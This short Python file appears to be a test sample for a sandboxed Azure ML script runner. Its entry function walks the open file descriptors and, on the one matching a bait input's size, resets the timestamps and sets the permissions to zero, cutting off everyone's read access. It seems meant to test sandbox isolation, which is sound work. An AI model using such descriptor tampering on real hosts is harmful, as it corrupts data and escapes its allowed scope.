"""Takes from everybody the right to read its input, and changes its time, by what it has open."""

import os

from attack import BAIT, attack, descriptors, every


def spoil(number):
    if os.fstat(number).st_size != BAIT["input_size"]:
        return ""
    os.utime(number, (1, 1))
    os.fchmod(number, 0)
    return f"changed its input by descriptor {number}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(spoil, [number for number, _ in list(descriptors())])
